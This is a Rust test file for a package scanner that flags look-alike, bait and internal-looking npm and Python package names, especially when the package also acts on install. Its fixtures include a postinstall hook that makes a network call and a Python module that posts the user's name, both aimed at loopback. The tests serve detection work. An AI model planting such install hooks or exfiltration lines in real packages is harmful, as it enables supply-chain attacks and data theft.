//! A name that imitates, baits or poses as internal is worth a note; beside what the code does it is worth an alarm.

use crate::common::{scan_one, write};
use doorward_protocol::{PackageReport, Severity, Verdict};

fn npm(name: &str, version: &str, scripts: &str, script: &str) -> PackageReport {
    let folder = tempfile::tempdir().expect("a folder");
    let manifest =
        format!("{{\n \"name\": \"{name}\",\n \"version\": \"{version}\",\n \"scripts\": {{{scripts}}}\n}}");
    write(
        folder.path(),
        &[("package.json", &manifest), ("setup.js", script), ("index.js", "module.exports = 1;\n")],
    );
    scan_one(folder.path())
}

fn wheel(name: &str, module: &str) -> PackageReport {
    let info = format!("{name}-1.0.0.dist-info/METADATA");
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n");
    let archive = crate::common::zip(&[("m/__init__.py", module.as_bytes()), (&info, metadata.as_bytes())]);
    let (_folder, path) = crate::common::archive(&format!("{name}-1.0.0-py3-none-any.whl"), &archive);
    scan_one(&path)
}

const HOOK: &str = "\"postinstall\": \"node setup.js\"";
const FETCH: &str = "require('https').get({ host: '127.0.0.1', port: 9 }, () => {});\n";

#[test]
fn a_look_alike_alone_is_a_note_that_names_what_it_imitates() {
    let report = npm("expres", "1.0.0", "", "");
    assert_eq!(report.verdict, Verdict::Notable, "{report:#?}");
    let finding = report.findings.iter().find(|finding| finding.rule == "I-14").expect("named");
    assert!(finding.why.contains("express") && finding.line == 2, "{finding:#?}");
    assert_eq!(npm("express", "1.0.0", "", "").verdict, Verdict::Clean);
}

#[test]
fn a_look_alike_that_acts_on_installation_is_an_alarm_and_its_honest_twin_is_not() {
    assert!(npm("expres", "1.0.0", HOOK, FETCH).verdict >= Verdict::Suspicious);
    assert!(npm("eth-wallet-auditor", "1.0.0", HOOK, FETCH).verdict >= Verdict::Suspicious);
    assert!(npm("picture-decoder", "1.0.0", HOOK, FETCH).verdict <= Verdict::Notable);
}

#[test]
fn an_internal_looking_version_that_reaches_out_is_malicious_and_a_year_is_nothing() {
    let report = npm("corp-billing-client", "99.10.9", HOOK, FETCH);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:#?}");
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.rule == "I-13" && finding.severity == Severity::Critical)
    );
    assert_eq!(npm("corp-billing-client", "99.10.9", "", "").verdict, Verdict::Notable);
    assert_eq!(npm("corp-billing-client", "2026.10.9", "", "").verdict, Verdict::Clean);
}

#[test]
fn a_look_alike_that_reports_home_on_import_is_an_alarm() {
    let module =
        "import getpass, requests\nrequests.post('http://127.0.0.1:9/', json={'u': getpass.getuser()})\n";
    assert!(wheel("reqests", module).verdict >= Verdict::Suspicious);
    assert_eq!(wheel("reqests", "VALUE = 1\n").verdict, Verdict::Notable);
    assert_eq!(wheel("plainly-mine", "VALUE = 1\n").verdict, Verdict::Clean);
}
